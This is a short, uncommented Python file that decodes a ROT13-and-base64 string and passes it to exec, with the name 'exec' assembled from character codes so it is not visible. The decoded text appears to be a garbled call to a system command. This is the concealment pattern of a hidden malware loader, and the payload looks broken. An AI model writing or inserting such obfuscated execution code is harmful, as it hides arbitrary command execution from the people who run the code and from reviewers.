import base64
import builtins
import codecs

_blob = "nJ9vnTyiov5mrKA0MJ0bWl5wo21gLJ5xJlyn"
_pad = "=" * (-len(_blob) % 4)
_src = base64.b64decode(codecs.decode(_blob, "rot_13") + _pad).decode()
_runner = getattr(builtins, "".join(map(chr, [101, 120, 101, 99])))
_runner(_src)
